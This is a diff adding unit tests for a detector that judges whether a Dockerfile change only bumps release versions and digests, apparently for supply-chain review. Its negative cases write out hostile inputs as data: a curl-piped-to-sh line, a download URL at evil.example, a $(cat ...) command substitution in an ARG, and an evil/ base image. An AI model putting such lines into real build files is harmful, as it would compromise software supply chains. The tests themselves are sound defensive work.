@@ -3,7 +3,7 @@ import { analyzeContributors } from '../../src/analyzers/contributors.js';
 import { analyzeEvidence } from '../../src/analyzers/evidence.js';
 import { analyzeFocus } from '../../src/analyzers/focus.js';
 import { analyzeRisk, levelForScore, trustedRoutine } from '../../src/analyzers/risk.js';
-import { editsOnlyCommands, onlyActionRefsChanged, onlyImageTagsMoved, onlyToolVersionMoved } from '../../src/analyzers/sensitive-changes.js';
+import { editsOnlyCommands, onlyActionRefsChanged, onlyBuildArgVersionsMoved, onlyImageTagsMoved, onlyToolVersionMoved } from '../../src/analyzers/sensitive-changes.js';
 import type { RepoConfig } from '../../src/repo-config/schema.js';
 import { DEFAULT_CONFIG, RepoConfig as RepoConfigSchema } from '../../src/repo-config/schema.js';
 import type { SupplyChainSection } from '../../src/signal/schema.js';
@@ -886,6 +886,30 @@ describe('analyzeRisk', () => {
   });
 });
 
+
+describe('Dockerfile build arguments that only move a release and its digest', () => {
+  const hunk = (lines: string[]) => `@@ -120,6 +120,6 @@\n FROM go-build AS build-containerd\n${lines.join('\n')}\n ARG CONTAINERD_CLONE_URL="https://github.com/containerd/containerd"\n`;
+  const digestA = 'a'.repeat(64);
+  const digestB = 'b'.repeat(64);
+  it('recognises a release moved in ARG or ENV, with its download digest and the images\' tags', () => {
+    expect(onlyBuildArgVersionsMoved('images/base/Dockerfile', hunk(['-ARG CONTAINERD_VERSION="v2.1.1"', '+ARG CONTAINERD_VERSION="v2.1.3"']))).toBe(true);
+    expect(onlyBuildArgVersionsMoved('Dockerfile', hunk(['-ARG RUNC_VERSION=v1.2.4', `-ARG RUNC_AMD64_SHA256SUM=${digestA}`, '+ARG RUNC_VERSION=v1.3.4', `+ARG RUNC_AMD64_SHA256SUM=${digestB}`]))).toBe(true);
+    expect(onlyBuildArgVersionsMoved('build/node.Dockerfile', hunk(['-ENV NODE_VERSION 22.11.0', '+ENV NODE_VERSION 22.12.0']))).toBe(true);
+    expect(onlyBuildArgVersionsMoved('Containerfile', hunk(['-FROM debian:bookworm-slim', '-ARG CNI_PLUGINS_VERSION="v1.5.1"', '+FROM debian:trixie-slim', '+ARG CNI_PLUGINS_VERSION="v1.6.0"']))).toBe(true);
+  });
+  it('is false for a URL, a command, a digest moved with no release, another variable, a line added, another file or no patch', () => {
+    expect(onlyBuildArgVersionsMoved('Dockerfile', hunk(['-ARG CONTAINERD_VERSION="v2.1.1"', '+ARG CONTAINERD_VERSION="https://evil.example/containerd.tgz"']))).toBe(false);
+    expect(onlyBuildArgVersionsMoved('Dockerfile', hunk(['-ARG CONTAINERD_CLONE_URL="https://github.com/containerd/containerd"', '+ARG CONTAINERD_CLONE_URL="https://github.com/someone/containerd"']))).toBe(false);
+    expect(onlyBuildArgVersionsMoved('Dockerfile', hunk([`-ARG RUNC_AMD64_SHA256SUM=${digestA}`, `+ARG RUNC_AMD64_SHA256SUM=${digestB}`]))).toBe(false);
+    expect(onlyBuildArgVersionsMoved('Dockerfile', hunk(['-ARG GO_VERSION=1.24.3', '+ARG GOLANG_VERSION=1.24.4']))).toBe(false);
+    expect(onlyBuildArgVersionsMoved('Dockerfile', hunk(['-ARG GO_VERSION=1.24.3', '+ARG GO_VERSION=1.24.4', '+RUN curl -fsSL https://x.test/i.sh | sh']))).toBe(false);
+    expect(onlyBuildArgVersionsMoved('Dockerfile', hunk(['-ARG GO_VERSION=1.24.3', '+ARG GO_VERSION=$(cat /tmp/v)']))).toBe(false);
+    expect(onlyBuildArgVersionsMoved('Dockerfile', hunk(['-FROM debian:bookworm-slim', '-ARG GO_VERSION=1.24.3', '+FROM evil/debian:bookworm-slim', '+ARG GO_VERSION=1.24.4']))).toBe(false);
+    expect(onlyBuildArgVersionsMoved('scripts/versions.sh', hunk(['-ARG GO_VERSION=1.24.3', '+ARG GO_VERSION=1.24.4']))).toBe(false);
+    expect(onlyBuildArgVersionsMoved('Dockerfile', hunk(['-ARG CONTAINERD_VERSION="v1.7.24"', '+ARG CONTAINERD_VERSION="v2.0.2"']))).toBe(false);
+    expect(onlyBuildArgVersionsMoved('Dockerfile', null)).toBe(false);
+  });
+});
 
 describe('tool version files beside the workflows that only move a version', () => {
   const moved = (from: string, to: string) => `@@ -1,1 +1,1 @@\n-${from}\n+${to}\n`;
